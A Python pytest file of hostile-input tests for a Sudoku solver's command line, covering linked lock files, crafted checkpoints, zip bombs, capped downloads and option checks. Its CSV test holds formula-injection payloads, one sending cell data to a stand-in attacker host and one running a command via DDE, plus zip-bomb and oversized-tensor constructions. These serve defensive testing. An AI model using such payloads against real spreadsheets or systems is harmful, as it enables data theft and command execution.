"""Issue 49: the hostile-input probe as tests, one (or one parametrized set) per case of the issue's table.

Locks that cannot be turned against the user (a lock that is a link to another file, a full disk, hand-made lock
contents, a lock of another host, a training stopped by SIGTERM); every output its own file (two options naming one
file, evaluate into a training's folder); a crafted checkpoint refused at a normal load's memory; downloads with
limits (an endless body, a zip bomb, a web page served as the zip, a gzip-encoded answer), checked against a local
server on 127.0.0.1; options checked where they are read; CSV fields a spreadsheet would run as formulas. Each test
fails on the code before the issue (that is how they were written: run against it first).
"""

from __future__ import annotations

import gzip
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from ltn_sudoku.cli import build_parser, run_command
from ltn_sudoku.datasets.registry import UNZIP_CSV, DataFile, DataSet
from ltn_sudoku.datasets.serve import LocalServer
from ltn_sudoku.io import locks
from ltn_sudoku.logic.errors import ConfigError
from ltn_sudoku.paths import DATA_DIR, REPO_ROOT
from tests import test_data_fetch as fetching
from tests.test_train import TINY, config

ENV = {**os.environ, "PYTHONWARNINGS": "ignore", "PYTHONPATH": str(REPO_ROOT)}
TRAIN = [sys.executable, "-m", "ltn_sudoku.train", "model=4x4", *TINY]
EXAMPLES = DATA_DIR / "examples"
VICTIM = "the user's notes: nothing here may be replaced\n"


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """`ltn-sudoku ARGV` in this process: (status, stdout, stderr)."""
    try:
        status = run_command(build_parser().parse_args(list(argv)))
    except SystemExit as e:  # argparse's own usage errors
        status = int(e.code or 0)
    out, err = capsys.readouterr()
    return status, out, err


def one_error_line(err: str, *words: str) -> str:
    """The one `error: ...` line of a refusal, checked to name every word."""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err[-3000:]
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


def aged(path: Path, seconds: float = 3600) -> None:
    """Make a file look written long ago (a lock judged stale by its age)."""
    then = time.time() - seconds
    os.utime(path, (then, then), follow_symlinks=False)
    if path.is_symlink():
        os.utime(path.resolve(), (then, then))


def classify_to(capsys: pytest.CaptureFixture[str], out: Path) -> tuple[int, str, str]:
    return cli(capsys, "classify", str(EXAMPLES / "valid_closed_4x4.csv"), "--no-ltn", "--no-heuristics",
               "--out", str(out))


# ---- case 1: OUT.lock or RUN/train.lock is a link to another file ----------------------------------------------------
@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_an_output_lock_that_links_to_another_file_is_refused_and_the_file_kept(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], link: str) -> None:
    victim, out = tmp_path / "notes.txt", tmp_path / "r.csv"
    victim.write_text(VICTIM)
    lock = tmp_path / "r.csv.lock"
    (os.symlink if link == "symlink" else os.link)(victim, lock)
    aged(lock)
    status, _, err = classify_to(capsys, out)
    assert status == 2
    one_error_line(err, f"{lock} is not a lock file of this program", "move it away")
    assert victim.read_text() == VICTIM and not out.exists()


def test_a_run_folder_lock_that_links_to_another_file_is_refused_and_the_file_kept(tmp_path: Path) -> None:
    from ltn_sudoku.logic.training.runtime import run_folder

    victim, folder = tmp_path / "notes.txt", tmp_path / "run"
    victim.write_text(VICTIM)
    folder.mkdir()
    (folder / "train.lock").symlink_to(victim)
    aged(folder / "train.lock")
    with pytest.raises(ConfigError, match="train.lock is not a lock file of this program \\(a symbolic link\\)"):
        with run_folder(folder, config(folder)):
            pass
    assert victim.read_text() == VICTIM and (folder / "train.lock").is_symlink()


def test_the_entry_point_refuses_a_linked_run_folder_lock_before_hydra_writes(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from ltn_sudoku.train import check_run_folder

    victim, folder = tmp_path / "notes.txt", tmp_path / "run"
    victim.write_text(VICTIM)
    folder.mkdir()
    (folder / "train.lock").symlink_to(victim)
    with pytest.raises(SystemExit) as info:
        check_run_folder(["model=4x4", *TINY, "train.epochs=1", f"hydra.run.dir={folder}"])
    assert info.value.code == 2
    one_error_line(capsys.readouterr().err, "train.lock is not a lock file of this program (a symbolic link)")
    assert sorted(p.name for p in folder.iterdir()) == ["train.lock"] and victim.read_text() == VICTIM


# ---- case 6: a full disk while the lock is created ---------------------------------------------------------------------
def test_a_full_disk_while_taking_a_lock_is_one_line_and_leaves_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    def full(fd: int, data: bytes) -> int:
        raise OSError(28, "No space left on device")

    out = tmp_path / "r.csv"
    with monkeypatch.context() as patched:
        patched.setattr(locks.os, "write", full)
        status, _, err = classify_to(capsys, out)
    assert status == 2
    one_error_line(err, f"cannot write the lock {out}.lock", "No space left on device", "nothing was left")
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no 0-byte lock to block the retry
    assert classify_to(capsys, out)[0] == 0  # the retry, once there is room


# ---- case 8 (locks): hand-made lock contents of any shape --------------------------------------------------------------
@pytest.mark.parametrize("content", [
    '{"pid": 123456789012345678901, "host": "%s"}', '{"pid": -1, "host": "%s"}', '{"pid": "12", "host": "%s"}',
    '{"pid": true, "host": "%s"}', '[1, 2, "%s"]', '{"pid": 12, "host": 7, "h": "%s"}',
    'not json at all %s', '\udcff%s'],
    ids=["20-digit-pid", "negative-pid", "pid-text", "pid-bool", "a-list", "host-number", "text", "bad-utf8"])
def test_hand_made_lock_contents_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                              content: str) -> None:
    out = tmp_path / "r.csv"
    lock = tmp_path / "r.csv.lock"
    lock.write_bytes((content % socket.gethostname()).encode("utf-8", "surrogateescape"))
    aged(lock)
    before = lock.read_bytes()
    status, _, err = classify_to(capsys, out)
    assert status == 2
    one_error_line(err, f"{lock} is not a lock file of this program")
    assert lock.read_bytes() == before and not out.exists()


def test_a_stale_lock_is_removed_and_created_again_never_rewritten(tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """A dead run's lock record is taken over by a new file, not by writing into the old one (whose other names,
    had it any, would see the new content)."""
    child = subprocess.Popen([sys.executable, "-c", ""])
    child.wait()
    lock = tmp_path / "r.csv.lock"
    lock.write_text(json.dumps({"pid": child.pid, "host": socket.gethostname(), "since": "then"}) + "\n")
    old = os.open(lock, os.O_RDONLY)
    try:
        status, _, err = classify_to(capsys, tmp_path / "r.csv")
        assert status == 0 and f"took over the stale lock {lock}: left by pid {child.pid}" in err
        assert json.loads(os.pread(old, 4096, 0))["pid"] == child.pid  # the old file untouched
    finally:
        os.close(old)
    assert not lock.exists()


# ---- case 10: a training stopped by SIGTERM, resumed on another node ---------------------------------------------------
def test_a_lock_left_on_another_host_names_the_file_to_remove(tmp_path: Path) -> None:
    from ltn_sudoku.logic.training.runtime import run_folder

    folder = tmp_path / "run"
    folder.mkdir()
    lock = folder / "train.lock"
    lock.write_text(json.dumps({"pid": 4242, "host": "node-b", "since": "2026-01-01 00:00:00"}) + "\n")
    with pytest.raises(ConfigError) as info:
        with run_folder(folder, config(folder)):
            pass
    message = str(info.value)
    assert "pid 4242 on node-b" in message and f"remove {lock}" in message and "\n" not in message
    assert lock.exists()


def test_a_training_stopped_by_sigterm_releases_its_lock_and_goes_on_elsewhere(tmp_path: Path) -> None:
    """A cluster's time limit: SIGTERM to a real training ends it with status 143 and one line, its lock released and
    its last finished epoch's last.pt kept; the resume (in this process: another node, as far as the lock goes) goes
    on from there."""
    from ltn_sudoku.logic.checkpoints import load_checkpoint
    from ltn_sudoku.logic.kinds import train

    folder = tmp_path / "run"
    run = subprocess.Popen([*TRAIN, "train.epochs=1000", "train.patience=1000", f"run_dir={folder}"], cwd=REPO_ROOT,
                           env=ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 180
        while not (folder / "last.pt").is_file():
            assert run.poll() is None, run.stderr.read() if run.stderr else ""
            assert time.monotonic() < deadline, "the run wrote no last.pt"
            time.sleep(0.1)
        run.send_signal(signal.SIGTERM)
        _, err = run.communicate(timeout=120)
    finally:
        if run.poll() is None:
            run.kill()
            run.wait()
    assert run.returncode == 143, err[-3000:]
    assert f"stopped by SIGTERM: {folder / 'train.lock'} released" in err and "train.resume=" in err
    assert not (folder / "train.lock").exists()
    epoch = int(load_checkpoint(folder / "last.pt")["extra"]["epoch"])
    metrics = train(config(folder, f"train.epochs={epoch + 2}", "train.patience=1000",
                           f"train.resume={folder / 'last.pt'}"))
    assert metrics["train/epoch"] == epoch + 2


# ---- cases 2 and 5: every output its own file; a shipped example drawn -------------------------------------------------
@pytest.mark.parametrize("same", ["name", "symlink", "hardlink"])
def test_two_outputs_naming_one_file_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                 same: str) -> None:
    out = tmp_path / "r.csv"
    other = out
    if same != "name":
        out.write_text(VICTIM)
        other = tmp_path / "also.csv"
        (os.symlink if same == "symlink" else os.link)(out, other)
    status, _, err = cli(capsys, "solve", str(EXAMPLES / "seed_4x4.csv"), "--out", str(out), "--stats-out",
                         str(other))
    assert status == 2
    one_error_line(err, f"--stats-out {other}", f"--out {out}", "one file")
    assert not out.exists() or out.read_text() == VICTIM


def test_solve_refuses_a_page_that_links_to_its_results_file(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    out, page = tmp_path / "r.csv", tmp_path / "page.html"
    out.write_text(VICTIM)
    page.symlink_to(out)
    status, _, err = cli(capsys, "solve", str(EXAMPLES / "seed_4x4.csv"), "--explain", "--html", str(page), "--out",
                         str(out))
    assert status == 2
    one_error_line(err, f"--html {page} and --out {out} are one file")
    assert out.read_text() == VICTIM


def test_solve_draws_the_shipped_example_whose_givens_clash(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    drawings = tmp_path / "D"
    status, out, err = cli(capsys, "solve", str(EXAMPLES / "invalid_closed_9x9.csv"), "--explain", "--svg",
                           str(drawings))
    assert status == 0, err
    assert "not solved" in out and "Traceback" not in err


def test_solve_svg_never_replaces_a_step_picture_it_did_not_make(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    drawings = tmp_path / "D"
    drawings.mkdir()
    mine = drawings / "board1_step1.svg"
    mine.write_text("the user's own drawing")
    status, out, err = cli(capsys, "solve", str(EXAMPLES / "seed_9x9.csv"), "--explain", "--svg", str(drawings))
    assert status == 2 and "nothing is replaced" in err and "Traceback" not in err
    assert mine.read_text() == "the user's own drawing" and sorted(drawings.iterdir()) == [mine]


# ---- case 4: a crafted checkpoint, judged before it is loaded ---------------------------------------------------------
LOAD_AND_MEASURE = """
import json, resource, sys
import torch
from ltn_sudoku.logic.checkpoints import FORMAT, CheckpointError, load_checkpoint
path, shape = sys.argv[1], json.loads(sys.argv[2])
if shape:  # one stored number, seen as a weight of this shape
    torch.save({"format": FORMAT, "version": 2, "size": 4, "config": {"model": {}}, "extra": {}, "sha256": "0" * 64,
                "state_dict": {"w": torch.zeros(1, dtype=torch.uint8).expand(*shape)}}, path)
try:
    load_checkpoint(path)
    refused = None
except CheckpointError as e:
    refused = str(e)
print(json.dumps({"refused": refused, "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}))
"""


def load_in_a_process(path: Path, shape: list[int] | None) -> dict[str, object]:
    done = subprocess.run([sys.executable, "-c", LOAD_AND_MEASURE, str(path), json.dumps(shape)], cwd=REPO_ROOT,
                          env=ENV, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.splitlines()[-1])  # type: ignore[no-any-return]


@pytest.mark.parametrize("shape", [[20000, 20000], [2**16, 2**15]], ids=["20000x20000", "2^31"])
def test_a_crafted_checkpoint_is_refused_at_a_normal_loads_memory(tmp_path: Path, shape: list[int]) -> None:
    """A small file whose one weight is an expanded view of one stored number: refused in one line before its
    checksum would materialise it, at the peak memory of loading a shipped checkpoint (+64 MB)."""
    normal = load_in_a_process(REPO_ROOT / "checkpoints" / "9x9_message_passing.pt", None)
    assert normal["refused"] is None
    crafted = load_in_a_process(tmp_path / "crafted.pt", shape)
    assert (tmp_path / "crafted.pt").stat().st_size < 64_000
    refused = str(crafted["refused"])
    assert f"tensor state_dict.w of shape {tuple(shape)}" in refused and "a view of numbers not stored" in refused
    assert "\n" not in refused
    assert float(crafted["peak_mb"]) < float(normal["peak_mb"]) + 64, (crafted, normal)  # type: ignore[arg-type]


def test_a_checkpoint_with_a_compressed_record_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """torch.save stores its records as they are; a compressed one (which could expand without bound) is refused."""
    from ltn_sudoku.logic.checkpoints import CheckpointError, load_checkpoint

    packed = tmp_path / "packed.pt"
    with zipfile.ZipFile(REPO_ROOT / "checkpoints" / "4x4.pt") as src, \
            zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info.filename, src.read(info))
    with pytest.raises(CheckpointError, match="is compressed .* which torch.save never does"):
        load_checkpoint(packed)


# ---- cases 7 and 9: the data home's records and the downloads (a local server on 127.0.0.1) ---------------------------
SIZE, files_in, sha256 = fetching.SIZE, fetching.files_in, fetching.sha256
home, payload = fetching.home, fetching.payload  # tests/test_data_fetch.py's fixtures: an empty data home, SIZE bytes


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[LocalServer, Path]]:
    """A local server of whatever files a test puts into its folder: url path /NAME serves folder/NAME."""
    root = tmp_path / "served"
    root.mkdir()
    with LocalServer({}) as server:
        yield server, root


def serve(server: LocalServer, root: Path, name: str, data: bytes) -> str:
    (root / name).write_bytes(data)
    server.files[f"/{name}"] = root / name
    return server.url(f"/{name}")


def use_files(monkeypatch: pytest.MonkeyPatch, *files: DataFile) -> None:
    """The registry as one set named `t` of these files."""
    from ltn_sudoku.datasets import registry

    monkeypatch.setattr(registry, "SETS", (DataSet("t", "test set", "test", files, "local", "test"),))


@pytest.mark.parametrize("records", ['[1, 2]', '{"x.csv": "abc"}', '{"x.csv": {"size": 3}}',
                                     '{"x.csv": {"sha256": 7}}'], ids=["a-list", "a-string", "no-sha", "sha-number"])
def test_checksum_records_of_the_wrong_shape_are_one_line(home: Path, capsys: pytest.CaptureFixture[str],
                                                          monkeypatch: pytest.MonkeyPatch, records: str) -> None:
    from ltn_sudoku.datasets.registry import CHECKSUMS_FILE

    home.mkdir()
    (home / "x.csv").write_text("a\n")
    (home / CHECKSUMS_FILE).write_text(records)
    use_files(monkeypatch, DataFile("x.csv", ("https://example.invalid/x.csv",), 2, None, tofu=True))
    for argv in (["data", "list", "--verify"], ["data", "fetch", "t"]):
        status, _, err = cli(capsys, *argv)
        assert status == 2, err
        one_error_line(err, f"{home / CHECKSUMS_FILE}: checksum records of the wrong shape", "move it away")
    assert (home / CHECKSUMS_FILE).read_text() == records  # left for the user to look at


def test_an_endless_body_stops_at_the_registered_size(home: Path, served: tuple[LocalServer, Path], payload: bytes,
                                                      monkeypatch: pytest.MonkeyPatch,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    server, root = served
    url = serve(server, root, "endless.bin", payload)
    server.endless["/endless.bin"] = 40 * SIZE  # no Content-Length; the test's server gives up after 24 MB
    use_files(monkeypatch, DataFile("e.bin", (url,), SIZE, sha256(payload)))
    status, _, err = cli(capsys, "data", "fetch", "t")
    assert status == 2
    one_error_line(err, f"more than the {SIZE:,} bytes registered", "nothing kept")
    assert files_in(home) == []  # no .part to resume into, or to fill a disk


def test_an_announced_length_above_the_registered_size_reads_nothing(
        home: Path, served: tuple[LocalServer, Path], payload: bytes, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    server, root = served
    url = serve(server, root, "big.bin", payload + payload)
    use_files(monkeypatch, DataFile("b.bin", (url,), SIZE, sha256(payload)))
    status, _, err = cli(capsys, "data", "fetch", "t")
    assert status == 2
    one_error_line(err, f"announces {2 * SIZE:,} bytes, more than the {SIZE:,} registered", "nothing read")
    assert files_in(home) == []


def zip_of(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(name, data)
    return buf.getvalue()


KAGGLE_LIKE = {"size": 164_000_018, "sha256": None, "transform": UNZIP_CSV, "tofu": True, "size_approx": True}


def test_a_zip_bomb_is_not_unpacked_past_its_ratio(home: Path, served: tuple[LocalServer, Path],
                                                   monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """A zip of a few tens of KB holding 40 MB of CSV (1000:1): refused, nothing stored or recorded."""
    server, root = served
    bomb = zip_of("sudoku.csv", b"quizzes,solutions\n" + b"0" * 40_000_000)
    assert len(bomb) < 100_000
    url = serve(server, root, "sudoku.zip", bomb)
    use_files(monkeypatch, DataFile("kaggle/full/k.csv", (url,), **KAGGLE_LIKE))  # type: ignore[arg-type]
    status, _, err = cli(capsys, "data", "fetch", "t")
    assert status == 2
    one_error_line(err, "unpacks to more than", "a zip bomb?", "nothing kept")
    assert files_in(home) == []


def test_a_web_page_served_as_the_zip_is_never_cached(home: Path, served: tuple[LocalServer, Path],
                                                      monkeypatch: pytest.MonkeyPatch,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """A login page instead of Kaggle's zip: refused, nothing kept, so the next fetch asks the server again and
    gets the real zip."""
    server, root = served
    url = serve(server, root, "sudoku.zip", b"<!DOCTYPE html><html><body>Sign in to continue</body></html>\n")
    server.headers["/sudoku.zip"] = {"Content-Type": "text/html; charset=utf-8"}
    use_files(monkeypatch, DataFile("kaggle/full/k.csv", (url,), **KAGGLE_LIKE))  # type: ignore[arg-type]
    status, _, err = cli(capsys, "data", "fetch", "t")
    assert status == 2
    one_error_line(err, "answered with a web page (text/html)", "nothing kept")
    assert files_in(home) == []
    rows = b"quizzes,solutions\n" + b"1" * 81 + b"," + b"2" * 81 + b"\n"
    serve(server, root, "sudoku.zip", zip_of("sudoku.csv", rows))
    server.headers["/sudoku.zip"] = {"Content-Type": "application/zip"}
    asked = len(server.requests)
    status, out, err = cli(capsys, "data", "fetch", "t")
    assert status == 0, err
    assert len(server.requests) > asked and (home / "kaggle/full/k.csv").read_bytes() == rows


def test_a_gzip_encoded_answer_is_decoded_not_a_cut_transfer(home: Path, served: tuple[LocalServer, Path],
                                                             payload: bytes, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    server, root = served
    url = serve(server, root, "enc.bin", gzip.compress(payload))
    server.headers["/enc.bin"] = {"Content-Encoding": "gzip"}
    use_files(monkeypatch, DataFile("enc.bin", (url,), SIZE, sha256(payload)))
    status, out, err = cli(capsys, "data", "fetch", "t")
    assert status == 0, err
    assert (home / "enc.bin").read_bytes() == payload and files_in(home) == ["enc.bin"]


def test_every_registered_download_has_a_limit() -> None:
    """No file of the real registry is fetched without a limit; a download that is the file stops at its size (an
    estimated size, a trust-on-first-use set's stated bound, has the slack of a transformed one)."""
    from ltn_sudoku.datasets import registry

    for f in (f for s in registry.SETS for f in s.files if f.urls):
        assert f.transfer_cap is not None and f.size is not None and f.transfer_cap >= f.size, f.path
        if f.transform is None and not f.size_approx:
            assert f.transfer_cap == f.size, f.path


# ---- cases 8 and 11: options checked where they are read, before any work -------------------------------------------
def refused(capsys: pytest.CaptureFixture[str], entry: str, argv: list[str], *words: str) -> str:
    """The entry point's checks before Hydra starts, in this process: one line naming the key, exit 2."""
    from ltn_sudoku.logic.commands.check import check_command_line

    with pytest.raises(SystemExit) as info:
        check_command_line(argv, entry)
    assert info.value.code == 2
    return one_error_line(capsys.readouterr().err, *words)


@pytest.mark.parametrize(("entry", "overrides", "words"), [
    ("train", ["threads=100000"], ["threads=100000", "the CPUs of this machine"]),
    ("evaluate", ["threads=100000"], ["threads=100000"]),
    ("train", ["run_dir=/proc/x"], ["run_dir=/proc/x", "no folder can be made in /proc"]),
    ("evaluate", ["run_dir=/proc/x/y"], ["run_dir=/proc/x/y", "no folder can be made in /proc"]),
    ("evaluate", ["evaluate.solving=0"], ["evaluate.solving=0", "expected an integer >= 1"]),
    ("train", ["data.train.solvable=0"], ["data.train.solvable=0", "no solvable training puzzles"]),
    ("train", ["data.val.solvable=0"], ["data.val.solvable=0", "no solvable validation puzzles"]),
    ("train", ["train.curriculum.epochs=2"], ["train.curriculum.start_givens=30", "at most 15 givens",
                                              "train.curriculum.epochs=2"]),
], ids=["threads-train", "threads-evaluate", "run-dir-proc", "run-dir-proc-evaluate", "evaluate-solving-0",
        "no-training-boards", "no-validation-boards", "curriculum-4x4"])
def test_options_that_cannot_work_are_one_line_before_any_work(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                               entry: str, overrides: list[str],
                                                               words: list[str]) -> None:
    where = [] if any(o.startswith("run_dir=") for o in overrides) else [f"run_dir={tmp_path / 'run'}"]
    refused(capsys, entry, ["model=4x4", *TINY, "train.epochs=1", *where, *overrides], *words)
    assert not (tmp_path / "run").exists()


def test_a_file_in_the_way_of_run_dir_is_one_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    (tmp_path / "file").write_text(VICTIM)
    refused(capsys, "train", ["model=4x4", *TINY, f"run_dir={tmp_path / 'file' / 'run'}"], "is a file, not a folder")
    assert (tmp_path / "file").read_text() == VICTIM


@pytest.mark.parametrize(("override", "words"), [
    ("evaluate.open=1", ["evaluate.open=1: at least 12", "3 givens bins"]),
    ("evaluate.givens_bins=[[9,4]]", ["evaluate.givens_bins=[[9, 4]]", "low <= high <= 16"]),
], ids=["open-1", "bins-reversed"])
def test_evaluate_settings_that_leave_a_table_without_boards_are_one_line(tmp_path: Path, override: str,
                                                                        words: list[str]) -> None:
    """`evaluate.open=1` was a KeyError once every board was answered; refused by the entry point before any board
    is made (the evaluation's own rules: its givens bins live with it)."""
    done = subprocess.run([sys.executable, "-m", "ltn_sudoku.evaluate", "model=4x4", override,
                           f"hydra.run.dir={tmp_path / 'eval'}"], cwd=REPO_ROOT, env=ENV, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 2, done.stderr[-3000:]
    one_error_line(done.stderr, *words)
    assert not (tmp_path / "eval" / "metrics.json").exists()


# ---- case 3: evaluate into a finished training's folder -----------------------------------------------------------------
@pytest.mark.slow
def test_evaluate_into_a_training_folder_writes_beside_its_record(tmp_path: Path) -> None:
    """`evaluate checkpoint=RUN/best.pt run_dir=RUN`: the training's metrics.json (and its TensorBoard events) are
    kept as they were; the evaluation goes to RUN/evaluation/."""
    from ltn_sudoku.logic.board.evaluate import evaluate
    from ltn_sudoku.logic.kinds import train
    from tests.test_train import TINY_EVAL

    run = tmp_path / "run"
    train(config(run, "train.epochs=1"))
    record = (run / "metrics.json").read_bytes()
    events = sorted(p.name for p in (run / "tb").iterdir())
    evaluate(config(run, f"checkpoint={run / 'best.pt'}", *TINY_EVAL, "evaluate.search.puzzles=0"))
    assert (run / "metrics.json").read_bytes() == record
    assert sorted(p.name for p in (run / "tb").iterdir()) == events
    report = json.loads((run / "evaluation" / "metrics.json").read_text())
    assert report["checkpoint"] == str(run / "best.pt") and "tables" in report


# ---- case 12: CSV fields a spreadsheet would run ------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3", "\t=1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "at", "minus", "tab"])
def test_a_table_id_that_is_a_formula_is_written_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                         formula: str) -> None:
    import csv

    table = tmp_path / "boards.csv"
    with table.open("w", newline="") as f:
        csv.writer(f).writerows([["puzzle", "id"], ["1234341221434321", formula], ["1234341221434321", "-0.5"]])
    out = tmp_path / "r.csv"
    status, _, err = cli(capsys, "classify", str(table), "--no-ltn", "--no-heuristics", "--out", str(out))
    assert status == 0, err
    with out.open(newline="") as f:
        ids = [row["id"] for row in csv.DictReader(f)]
    assert ids == ["'" + formula, "-0.5"]  # shown as text; a number stays a number
    jsonl = tmp_path / "r.jsonl"
    assert cli(capsys, "classify", str(table), "--no-ltn", "--no-heuristics", "--out", str(jsonl))[0] == 0
    assert json.loads(jsonl.read_text().splitlines()[0])["id"] == formula  # JSON is no spreadsheet: as it was


def test_a_curriculum_above_the_densest_board_is_refused_before_any_step(tmp_path: Path) -> None:
    """start_givens=15 passes the size rule on 4x4 (an open board may have 15 givens), but the boards made have
    fewer: refused once they are made, before a training step."""
    from ltn_sudoku.logic.kinds import train

    with pytest.raises(ConfigError, match=r"train.curriculum.start_givens=15: the densest training board has 1[0-4] "
                                          r"givens"):
        train(config(tmp_path / "run", "train.epochs=1", "train.curriculum.epochs=2",
                     "train.curriculum.start_givens=15"))
    assert not (tmp_path / "run" / "last.pt").exists()


def test_the_command_line_puts_back_the_callers_sigpipe_handling(capsys: pytest.CaptureFixture[str]) -> None:
    """main() ends quietly under `| head` (SIGPIPE's default while it runs) but hands back Python's handling: it once
    kept SIG_DFL, and a later test whose local server wrote to a closed connection killed its xdist worker (CI)."""
    from ltn_sudoku.cli import main

    before = signal.getsignal(signal.SIGPIPE)
    assert main(["classify", str(EXAMPLES / "valid_closed_4x4.csv"), "--no-ltn", "--no-heuristics"]) == 0
    assert signal.getsignal(signal.SIGPIPE) == before
    capsys.readouterr()


def test_the_command_line_piped_into_head_ends_quietly(tmp_path: Path) -> None:
    many = tmp_path / "many.txt"
    many.write_text("1234341221434321\n" * 5_000)
    command = "from ltn_sudoku.cli import main; raise SystemExit(main())"
    run = subprocess.run(f"'{sys.executable}' -c '{command}' classify {many} --no-ltn --no-heuristics | head -n 1",
                         shell=True, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0
    assert run.stdout.count("\n") == 1 and run.stderr == "", run.stderr
